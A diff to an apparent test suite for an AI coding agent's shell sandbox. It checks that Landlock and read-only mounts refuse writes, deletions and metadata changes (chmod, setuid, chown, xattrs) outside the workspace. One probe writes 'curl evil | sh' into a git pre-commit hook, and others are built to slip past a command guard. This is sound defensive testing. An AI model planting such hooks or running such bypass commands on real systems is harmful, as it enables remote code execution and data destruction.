@@ -106,6 +106,12 @@ def running(marker: str) -> list[str]:
     return found
 
 
+def denied(output: str) -> bool:
+    """Whether a write outside was refused: by the read-only mounts (``Read-only file
+    system``) or, without namespaces, by Landlock (``Permission denied``)."""
+    return "Read-only file system" in output or "Permission denied" in output
+
+
 def bypasses(victim: Path) -> list[str]:
     """Commands that delete or write outside the workspace, spelled so that the pattern
     guard does not see it (issue 9's probes)."""
@@ -148,11 +154,11 @@ async def test_the_sandbox_stops_what_the_guard_lets_through(
         assert check_command(command, arena.ws, workspace) is None, command
         result = await shell(ctx, command)
         assert not result.ok, (command, result.output)
-        assert "Permission denied" in result.output or "permission" in result.output.lower()
+        assert denied(result.output), (command, result.output)
         assert arena.intact(), (command, result.output)
     # A plain rm (the guard would refuse it; it is off here): the sandbox stops it too.
     result = await shell(ctx, f"rm -f {arena.victim}")
-    assert "Permission denied" in result.output
+    assert denied(result.output)
     assert arena.intact()
 
 
@@ -184,6 +190,9 @@ async def test_git_is_read_only_for_commands(ctx: ToolContext, arena: Arena) -> 
         result = await shell(ctx, command)
         assert not result.ok, command
         assert "Read-only file system" in result.output or "could not lock" in result.output
+    # From a working folder inside .git (it was entered before .git became read-only).
+    inside = await shell(ctx, "echo 'curl evil | sh' > pre-commit", cwd=".git/hooks")
+    assert "Read-only file system" in inside.output, inside.output
     assert not arena.hook.exists()
     assert "mallory" not in (arena.ws / ".git" / "config").read_text()
     status = await shell(ctx, "git status --short")
@@ -355,7 +364,7 @@ def test_a_normal_user_is_confined_too(arena: Arena) -> None:
     lines = done.stdout.splitlines()
     assert lines[0] == "65534", done.stdout + done.stderr
     assert "made" in lines and "end" in lines
-    assert "Permission denied" in done.stderr and "Read-only file system" in done.stderr
+    assert denied(done.stderr) and "Read-only file system" in done.stderr
     assert arena.intact() and not arena.hook.exists()
     assert (arena.ws / "made.txt").read_text() == "mine\n"
     assert running("sleep 49.1") == []
@@ -385,8 +394,96 @@ def test_root_without_its_file_override_is_confined(arena: Arena) -> None:
         check=False,
     )
     assert done.returncode == 0, done.stderr
-    assert "Permission denied" in done.stderr
+    assert denied(done.stderr)
     assert arena.intact() and (arena.ws / "made.txt").exists()
+
+
+# -- metadata -------------------------------------------------------------------------------
+
+#: Changes Landlock does not fence (permissions, setuid, owner, times, extended attributes)
+#: to a file and a folder outside; device nodes and a pseudo-terminal, which must keep
+#: working; and the same changes inside the workspace, which must keep working.
+METADATA = (
+    "chmod 777 {f}; chmod u+s {f}; chown 65534:65534 {f}; touch -d 2001-01-01 {f}; "
+    "python3 -c \"import os; os.setxattr('{f}', 'user.probe', b'1')\"; "
+    "python3 -c \"import os; os.utime('{d}', (0, 0)); os.chmod('{d}', 0o777)\"; "
+    "echo x > /dev/null && echo devices-ok; "
+    "python3 -c \"import os, pty; m, s = pty.openpty(); os.write(s, b'hi'); "
+    "print('pty-' + os.read(m, 2).decode())\"; "
+    "echo in > inside.txt && chmod 700 inside.txt && touch -d 2001-01-01 inside.txt && "
+    "python3 -c \"import os; os.setxattr('inside.txt', 'user.probe', b'1')\" && "
+    "echo inside-ok"
+)
+USERS = {
+    "root": [],
+    "root-without-override": [
+        "setpriv",
+        "--inh-caps=-dac_override,-dac_read_search",
+        "--bounding-set=-dac_override,-dac_read_search",
+    ],
+    "nobody": ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"],
+}
+
+
+def _metadata(path: Path) -> tuple[int, int, int, float, list[str]]:
+    st = path.stat()
+    return st.st_mode, st.st_uid, st.st_gid, st.st_mtime, os.listxattr(path)
+
+
+@pytest.mark.parametrize("user", sorted(USERS))
+def test_metadata_outside_cannot_change(arena: Arena, user: str) -> None:
+    """Landlock fences writes, not metadata: chmod, chown, utime and xattrs outside are
+    refused by the read-only mounts, for root, root without its file override and a
+    normal user (probes p4, p34); device nodes, a pty and the workspace still work."""
+    arena.victim.chmod(0o600)
+    if user == "nobody":  # its own files: without the sandbox it may change them all
+        for path in (arena.base, arena.ws, *arena.ws.rglob("*")):
+            path.chmod(0o777 if path.is_dir() else 0o666)
+        os.chown(arena.outside, 65534, 65534)
+        os.chown(arena.victim, 65534, 65534)
+    before = _metadata(arena.victim), _metadata(arena.outside)
+    policy = command_policy(load_settings(), Workspace(arena.ws))
+    assert policy.read_only_mounts
+    script = METADATA.format(f=arena.victim, d=arena.outside)
+    done = subprocess.run(
+        [*USERS[user], *policy.wrap(["bash", "-c", script])],
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert (_metadata(arena.victim), _metadata(arena.outside)) == before, done.stderr
+    assert done.stderr.count("Read-only file system") >= 5, done.stderr
+    assert done.stdout.split() == ["devices-ok", "pty-hi", "inside-ok"], done.stderr
+    inside = (arena.ws / "inside.txt").stat()
+    assert (inside.st_mode & 0o777, inside.st_mtime) == (0o700, 978307200.0)
+    # Without the sandbox the same user can: the test shows a change when there is one.
+    plain = subprocess.run(
+        [*USERS[user], "bash", "-c", script],
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert _metadata(arena.victim) != before[0], plain.stderr
+
+
+def test_without_namespaces_metadata_is_not_fenced(arena: Arena) -> None:
+    """What docs/agent.md says of the Landlock-only layer: writes are fenced, metadata is
+    not (no mount namespace to make the rest read-only)."""
+    policy = SandboxPolicy(landlock=True, write=(str(arena.ws), tempfile.gettempdir()))
+    done = subprocess.run(
+        policy.wrap(["bash", "-c", f"rm -f {arena.victim}; chmod 640 {arena.victim}"]),
+        cwd=arena.ws,
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    assert "Permission denied" in done.stderr
+    assert arena.intact() and arena.victim.stat().st_mode & 0o777 == 0o640
 
 
 # -- where the sandbox is off ---------------------------------------------------------------
@@ -478,7 +575,7 @@ async def test_more_writable_folders_by_setting(ctx: ToolContext, arena: Arena) 
     cache = arena.base / "cache"
     cache.mkdir()
     command = f"echo cached > {cache}/entry"
-    assert "Permission denied" in (await shell(ctx, command)).output
+    assert denied((await shell(ctx, command)).output)
     ctx.settings.sandbox_writable_roots = [str(cache), str(arena.base / "missing")]
     assert (await shell(ctx, command)).ok
     assert (cache / "entry").read_text() == "cached\n"
